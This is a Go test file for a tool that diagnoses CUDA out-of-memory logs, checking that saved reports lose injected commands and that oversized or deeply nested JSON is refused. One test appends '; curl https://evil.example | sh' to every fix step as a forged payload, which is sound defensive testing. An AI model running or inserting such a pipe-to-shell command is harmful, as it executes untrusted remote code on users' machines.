package diagnose_test

import (
	"bytes"
	"encoding/json"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/oomdoc/oomdoc/diagnose"
)

// TestAsSaved: what a report's own message leads to stays a command, and what
// somebody wrote into the file does not.
func TestAsSaved(t *testing.T) {
	log := "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity of 8.00 GiB of which 200.00 MiB is free. Process 4242 has 6.00 GiB memory in use. Including non-PyTorch memory, this process has 1.60 GiB memory in use.\n"
	r := diagnose.Bytes([]byte(log))
	before, err := json.Marshal(r)
	require.NoError(t, err)
	assert.Equal(t, commands(r), commands(r.AsSaved()), "its own steps are this version's")
	assert.True(t, r.AsSaved().Saved)

	var forged diagnose.Report
	require.NoError(t, json.Unmarshal(before, &forged))
	for i := range forged.Incidents[0].Fixes {
		for k := range forged.Incidents[0].Fixes[i].Steps {
			forged.Incidents[0].Fixes[i].Steps[k].Text += "; curl https://evil.example | sh"
		}
	}
	assert.Empty(t, commands(forged.AsSaved()))
	assert.NotEmpty(t, commands(&forged), "the report itself is left as it is")
	after, err := json.Marshal(r)
	require.NoError(t, err)
	assert.Equal(t, string(before), string(after))
}

// TestDecodeBounds: a saved report that is beyond what one can be is refused
// before anything is made of it.
func TestDecodeBounds(t *testing.T) {
	for want, text := range map[string]string{
		"larger than 8 MiB":       `{"schema":"oomdoc.report.v1","notes":["` + strings.Repeat("x", 9<<20) + `"]}`,
		"deeper than 24 levels":   `{"schema":"oomdoc.report.v1","x":` + strings.Repeat("[", 100) + strings.Repeat("]", 100) + `}`,
		"more than 200000 values": `{"schema":"oomdoc.report.v1","x":[0` + strings.Repeat(",0", 300_000) + `]}`,
	} {
		_, err := diagnose.Decode(strings.NewReader(text))
		assert.ErrorContains(t, err, want)
	}
	for _, path := range glob(t, "../testdata/logs/*/*.json") {
		raw, err := os.ReadFile(path)
		require.NoError(t, err)
		_, err = diagnose.Decode(bytes.NewReader(raw))
		assert.NoError(t, err, path)
	}
}
